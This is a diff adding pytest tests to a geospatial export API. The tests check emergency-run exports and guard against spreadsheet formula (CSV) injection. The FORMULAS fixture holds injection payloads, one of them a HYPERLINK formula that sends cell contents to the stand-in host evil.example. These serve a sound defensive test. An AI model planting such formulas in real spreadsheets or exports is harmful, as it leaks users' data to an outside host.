@@ -242,3 +242,74 @@ def test_cli_export_layer_and_run(settings: Settings, loaded: Any, db: psycopg.C
     assert result.exit_code == 0, result.output
     bad = CliRunner().invoke(main, ["export", "layer", "nope", "-o", str(tmp_path)], obj={"settings": settings})
     assert bad.exit_code == 1 and "nope" in bad.output
+
+
+# -- security findings: emergency runs, formula injection ------------------------------------------
+
+
+def test_an_emergency_run_exports_its_communes(client: TestClient, db: psycopg.Connection[Any]) -> None:
+    """An emergency run (a 500 before) exports one feature per commune with the people and households
+    exposed, as the run shows them to its owner; ``flagged`` (sector runs only) is a 400 naming why."""
+    made = client.post("/api/emergency/run", json={"incident": "flood", "at": [106.05, 20.65]})
+    assert made.status_code == 200, made.text
+    run = made.json()
+    assert run["communes"]
+    answer = client.get(f"/api/exports/runs/{run['id']}", params={"format": "csv"})
+    assert answer.status_code == 200, answer.text
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    expected = {c["code"]: c for c in run["communes"]}
+    assert {r["code"] for r in rows} == set(expected)
+    for row in rows:
+        commune = expected[row["code"]]
+        assert row["incident"] == "flood" and row["name"] == commune["name"] and row["run_id"] == str(run["id"])
+        assert row["people"] == ("" if commune["people"] is None else str(commune["people"]))
+        assert row["households"] == ("" if commune["households"] is None else str(commune["households"]))
+        assert row["wkt"].startswith("MULTIPOLYGON")
+    assert "contacts" not in rows[0] and "mobile_phone" not in answer.text
+    gpkg = client.get(f"/api/exports/runs/{run['id']}", params={"format": "gpkg", "crs": "EPSG:9209"})
+    assert gpkg.status_code == 200 and gpkg.headers["x-feature-count"] == str(len(expected))
+    for bad in (
+        client.get(f"/api/exports/runs/{run['id']}", params={"format": "csv", "flagged": True}),
+        client.post("/api/exports", json={"run": run["id"], "format": "csv", "flagged": True}),
+    ):
+        assert bad.status_code == 400 and "emergency run" in bad.json()["detail"], bad.text
+
+
+#: Texts a spreadsheet would run as formulas (OWASP CSV injection).
+FORMULAS = {
+    "XSS-F1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "XSS-F2": "+SUM(1,2)",
+    "XSS-F3": "-2+3",
+    "XSS-F4": "@SUM(1,2)",
+    "XSS-F5": "\t=1+1",
+}
+
+
+@pytest.fixture
+def hostile_schools(db: psycopg.Connection[Any]) -> Any:
+    """Schools named with formulas, loaded into the layer as its owner would, approved; removed after."""
+    for code, name in FORMULAS.items():
+        db.execute(
+            "INSERT INTO layers.schools (school_code, commune_code, name, level, geom, approval) "
+            "VALUES (%s, '11953', %s, 'secondary', ST_SetSRID(ST_MakePoint(106.05, 20.65), 4326), 'approved')",
+            (code, name),
+        )
+    yield FORMULAS
+    db.execute("DELETE FROM layers.schools WHERE school_code = ANY(%s)", (list(FORMULAS),))
+
+
+def test_spreadsheet_exports_never_hold_formulas(client: TestClient, hostile_schools: dict[str, str]) -> None:
+    params = {"filter": "school_code LIKE 'XSS-%'"}
+    answer = client.get("/api/exports/layers/schools", params={**params, "format": "csv"})
+    assert answer.status_code == 200, answer.text
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert {r["school_code"]: r["name"] for r in rows} == {k: "'" + v for k, v in hostile_schools.items()}
+    xlsx = client.get("/api/exports/layers/schools", params={**params, "format": "xlsx"})
+    assert xlsx.status_code == 200, xlsx.text
+    sheet = load_workbook(io.BytesIO(xlsx.content))["schools"]
+    header = [c.value for c in sheet[2]]
+    names = {row[1].value: row[header.index("name")] for row in sheet.iter_rows(min_row=3)}
+    assert {k: c.value for k, c in names.items()} == hostile_schools  # the text, as it is
+    assert {c.data_type for c in names.values()} == {"s"}  # string cells, never formulas ('f')
+    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as zf:
+        assert not any("<f>" in zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))
